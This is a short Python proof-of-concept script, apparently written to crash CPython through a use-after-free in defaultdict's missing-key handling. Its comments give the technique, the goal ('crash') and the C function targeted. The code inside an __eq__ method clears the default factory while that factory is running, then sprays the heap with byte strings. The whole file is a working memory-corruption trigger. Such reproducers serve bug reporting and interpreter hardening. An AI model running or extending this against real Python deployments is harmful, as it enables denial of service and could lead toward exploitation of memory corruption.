# technique: the default factory of a defaultdict, while it runs, is taken out and freed, with its arguments
# goal: crash
# source: own analysis: defdict_missing() in _collectionsmodule.c
import collections
import functools
import operator


class Item:
    def __eq__(self, other):
        del self
        d.default_factory = None
        junk.extend(bytes(b'A' * n) for n in range(15, 100, 16)
                    for i in range(200))
        return NotImplemented


junk = []
for i in range(50):
    d = collections.defaultdict(functools.partial(operator.eq, Item(), 3))
    d[1]
